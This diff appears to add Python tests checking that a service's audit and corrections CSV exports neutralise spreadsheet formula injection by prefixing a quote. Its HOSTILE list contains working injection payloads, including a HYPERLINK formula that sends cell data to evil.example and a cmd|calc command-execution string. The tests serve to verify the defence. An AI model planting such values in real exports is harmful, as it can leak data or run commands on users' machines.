@@ -1,0 +1,100 @@
+"""CSV exports open in a spreadsheet as data: hostile usernames, request ids and corrected
+values come out behind a single quote (app.csv_export), on both exports."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import httpx
+from service_support import TEST_PASSWORD, add_user, bearer
+from test_api import case, post_json
+from test_auth import log_in
+
+from app.csv_export import FORMULA_STARTS
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def read_csv(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def assert_no_formula(rows: list[dict[str, str]]) -> None:
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(FORMULA_STARTS), (column, cell)
+
+
+def test_the_audit_export_neutralises_usernames_and_request_ids(service, client_as):
+    hostile_user = "=1+1 admin"  # a real account whose name a spreadsheet would compute
+    token = add_user(service.app.state.sessions, hostile_user, "clinician")
+    with httpx.Client(base_url=service.url, headers=bearer(token)) as http:
+        denied = http.get("/admin/audit", headers={"X-Request-ID": "@SUM(A1:A9)"})  # audited
+        assert denied.status_code == 403
+    with httpx.Client(base_url=service.url) as http:
+        for username in HOSTILE:  # failed logins keep the name as typed
+            assert log_in(http, username, "wrong password").status_code == 401
+
+    exported = client_as("admin").get("/admin/audit.csv")
+    assert exported.status_code == 200
+    rows = read_csv(exported.text)
+    assert_no_formula(rows)
+    actors = {row["actor"] for row in rows}
+    assert {"'" + name for name in HOSTILE} <= actors
+    assert "'" + hostile_user in actors
+    assert "'@SUM(A1:A9)" in {row["request_id"] for row in rows}
+    # plain values are left alone
+    assert "login" in {row["action"] for row in rows}
+    assert all(row["at"][:1].isdigit() for row in rows)
+
+
+def test_the_corrections_export_neutralises_corrected_values(service, client_as):
+    radiologist, admin = client_as("radiologist"), client_as("admin")
+    created = post_json(client_as("clinician"), case().tolist(), k=3)
+    assert created.status_code == 201
+    body = created.json()
+    field = body["explanation"]["fields"][0]["field"]
+    url = f"/api/v1/explanations/{body['id']}/flags"
+    for value in HOSTILE:
+        flag = radiologist.post(
+            url, json={"field": field, "reason": "wrong_value", "corrected_value": value}
+        )
+        assert flag.status_code == 201, flag.text
+        decided = admin.post(
+            f"/api/v1/flags/{flag.json()['id']}/review", json={"decision": "accept"}
+        )
+        assert decided.status_code == 200
+
+    # the JSON export keeps the values as stored (leading blanks are trimmed on input); the CSV
+    # quotes every one that a spreadsheet would compute
+    stored = {
+        row["flag_id"]: row["corrected_value"]
+        for row in radiologist.get("/api/v1/corrections").json()
+        if row["explanation_id"] == body["id"]
+    }
+    assert {v.strip() for v in HOSTILE} == set(stored.values())
+    rows = read_csv(radiologist.get("/api/v1/corrections", params={"format": "csv"}).text)
+    assert_no_formula(rows)
+    mine = {int(row["flag_id"]): row["corrected_value"] for row in rows if row["flag_id"]}
+    assert {flag_id: mine[flag_id] for flag_id in stored} == {
+        flag_id: "'" + value for flag_id, value in stored.items()
+    }
+    assert all(row["flag_id"].isdigit() for row in rows)
+
+
+def test_a_session_login_with_a_hostile_name_is_exported_quoted(service, client_as):
+    name = "-5+user"
+    add_user(service.app.state.sessions, name, "radiologist")
+    with httpx.Client(base_url=service.url) as http:
+        assert log_in(http, name, TEST_PASSWORD).status_code == 303
+    rows = read_csv(client_as("admin").get("/admin/audit.csv", params={"action": "login"}).text)
+    assert ("'" + name, "success") in {(row["actor"], row["outcome"]) for row in rows}
+    assert_no_formula(rows)
